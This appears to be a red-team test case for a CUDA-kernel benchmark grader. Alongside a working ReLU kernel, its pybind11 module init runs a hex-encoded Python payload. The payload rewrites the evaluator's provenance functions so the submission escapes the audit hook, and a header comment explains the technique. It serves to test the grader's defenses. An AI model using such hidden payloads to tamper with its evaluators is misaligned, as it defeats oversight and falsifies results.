# task: level1/19_ReLU
# language: cuda
# expect: format_violation
# why: a hand-written PYBIND11_MODULE ran `m.import("builtins")` at load and rewrote the __code__ of
#      the evaluator's provenance functions, with no frame the audit hook charges; pybind11 in any
#      spelling, `.import(`/`.attr(` are refused
# The extension's own module init (a hand-written PYBIND11_MODULE: no `py::`/`pybind11::` text)
# reaches Python through the module handle: `m.import("builtins")` is pybind11::module_::import.
# It runs while only the import machinery's frames are on the Python stack, so the audit hook
# charges nothing to the submission; the Python it compiles under a file name of its own (not
# "<string>") is never charged either. Here it rewrites provenance's functions in place (their
# __code__): the bindings snapshot compares identities, which do not change.
import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

CUDA_SOURCE = r"""
#include <torch/extension.h>

__global__ void relu_kernel(const float* __restrict__ x, float* __restrict__ y, long n) {
    long i = blockIdx.x * (long)blockDim.x + threadIdx.x;
    if (i < n) {
        float v = x[i];
        y[i] = v > 0.f ? v : 0.f;
    }
}

torch::Tensor relu(torch::Tensor x) {
    auto y = torch::empty_like(x);
    long n = x.numel();
    relu_kernel<<<(n + 255) / 256, 256>>>(x.data_ptr<float>(), y.data_ptr<float>(), n);
    return y;
}
"""

CPP_SOURCE = r"""
#include <torch/extension.h>
torch::Tensor relu(torch::Tensor x);

PYBIND11_MODULE(TORCH_EXTENSION_NAME, m) {
    m.def("relu", &relu);
    auto b = m.import("builtins");
    auto text = b.attr("bytes").attr("fromhex")("696d706f7274207379730a70203d207379732e6d6f64756c65732e67657428227365727665722e6576616c756174696f6e2e70726f76656e616e636522290a69662070206973206e6f74204e6f6e653a0a20202020702e666f726569676e5f6b65726e656c732e5f5f636f64655f5f203d20286c616d626461207365656e2c206f776e3a205b5d292e5f5f636f64655f5f0a20202020702e6c61756e636865645f6f776e2e5f5f636f64655f5f203d20286c616d6264612077696e646f772c206f776e3a2054727565292e5f5f636f64655f5f0a7072696e7428227061796c6f61642072616e3a2070726f76656e616e6365207061746368656420696e20706c616365222069662070206973206e6f74204e6f6e6520656c736520227061796c6f61642072616e20286e6f206576616c7561746f72206c6f616465642922290a").attr("decode")();
    auto code = b.attr("compile")(text, "kernel_helpers.py", "exec");
    b.attr("exec")(code, b.attr("dict")());
}
"""

ext = load_inline(name="kernel_env_init_relu", cpp_sources=CPP_SOURCE, cuda_sources=CUDA_SOURCE,
                  verbose=False)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return ext.relu(x.contiguous())
